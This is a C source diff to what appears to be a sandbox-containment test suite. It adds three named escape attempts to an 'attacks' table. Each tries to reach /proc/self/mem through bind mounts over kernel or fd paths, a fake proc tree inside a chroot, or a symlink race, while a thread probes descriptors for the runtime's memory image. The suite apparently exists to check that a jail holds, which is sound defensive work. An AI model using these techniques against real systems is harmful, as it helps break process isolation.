@@ -109,16 +109,77 @@ static int from_jail_in_company(void) {
     return from_jail(1);
 }
 
-// While another thread turns the name round and uses whatever descriptor it sees.
+// While another thread uses whatever descriptor it sees.
 static volatile u32 stop, stolen, turns;
-static void turn_and_grab(int tid, void* image) {
-    (void)tid;
+static u64 image;
+static void grab(int tid, void* argument) {
+    (void)tid, (void)argument;
+    for (; !stop; ++turns) {
+        for (i32 fd = 3; fd < 12; ++fd) {
+            char bytes[4] = {0};
+            if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
+        }
+    }
+}
+static int open_while_grabbed(const char* name, u32 flags) {
+    static struct thread_t grabber;
+    start(&grabber, grab, 0);
+    for (int i = 0; i < 3000 && !stolen; ++i) {
+        char bytes[4] = {0};
+        i64 fd = sys_open(name, flags, 0);
+        if (i % 100 == 0) {
+            for (u32 before = turns; turns == before;) sys_sched_yield();
+        }
+        if (fd < 0) continue;
+        if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
+        sys_close(fd);
+    }
+    stop = 1;
+    return stolen ? REACHED : CONTAINED;
+}
+// Under a name of the kernel's own.
+static int as_parameter(void) {
+    image = runtime_image();
+    const char* name = "/proc/sys/kernel/hostname";
+    return sys_mount("/proc/self/mem", name, 0, MS_BIND, 0) == 0 ? open_while_grabbed(name, O_RDWR) : NOT_HERE;
+}
+// Numbers that lead to memory, where the runtime might look for its descriptors.
+static void make_numbers(const char* folder, const char* target) {
+    char name[64] = {0};
+    memcpy(name, folder, length(folder));
+    for (i32 n = 960; n < 1100; ++n) {
+        put_decimal(name + length(folder), n);
+        sys_symlink(target, name);
+    }
+}
+static int from_jail_with_false_proc(void) {
+    image = runtime_image();
+    sys_mkdir("false", 0700), sys_mkdir("false/true", 0700), sys_mkdir("false/proc", 0700);
+    sys_mkdir("false/proc/self", 0700), sys_mkdir("false/proc/self/fd", 0700);
+    make_numbers("false/proc/self/fd/", "/true/self/mem");
+    if (sys_mount("/proc", "false/true", 0, MS_BIND | 16384, 0) != 0 || sys_chroot("false") != 0) return NOT_HERE;
+    sys_chdir("/");
+    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
+    return open_while_grabbed("plain", O_RDWR);
+}
+static int through_false_descriptors(void) {
+    image = runtime_image();
+    sys_mkdir("numbers", 0700);
+    make_numbers("numbers/", "/proc/self/mem");
+    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
+    if (sys_mount("numbers", "/proc/self/fd", 0, MS_BIND, 0) != 0) return NOT_HERE;
+    return open_while_grabbed("plain", O_RDWR);
+}
+
+// While another thread turns the name round and uses whatever descriptor it sees.
+static void turn_and_grab(int tid, void* argument) {
+    (void)tid, (void)argument;
     for (; !stop; ++turns) {
         sys_symlink(turns % 2 ? "/proc/self/mem" : "plain", "next");
         sys_rename("next", "turning");
         for (i32 fd = 3; fd < 12; ++fd) {
             char bytes[4] = {0};
-            if (sys_pread64(fd, bytes, 4, *(u64*)image) == 4 && is_elf(bytes)) stolen = 1;
+            if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
         }
     }
 }
@@ -129,11 +190,10 @@ static void let_it_turn(void) {
 }
 static int by_race(void) {
     static struct thread_t turner;
-    static u64 image;
     image = runtime_image();
     sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
     sys_symlink("plain", "turning");
-    start(&turner, turn_and_grab, &image);
+    start(&turner, turn_and_grab, 0);
     for (int i = 0; i < 3000 && !stolen; ++i) {
         i64 fd = sys_open("turning", O_RDWR, 0);
         if (i % 8 == 0) let_it_turn();
@@ -161,6 +221,9 @@ static const struct attack attacks[] = {
     {"by a second proc", by_second_proc, 0},
     {"from a jail", from_jail_alone, 0},
     {"from a jail, in company", from_jail_in_company, 0},
+    {"as a parameter of the kernel", as_parameter, 0},
+    {"from a jail with a false proc", from_jail_with_false_proc, 0},
+    {"through false descriptors", through_false_descriptors, 0},
     {"by a race", by_race, 0},
 };
 
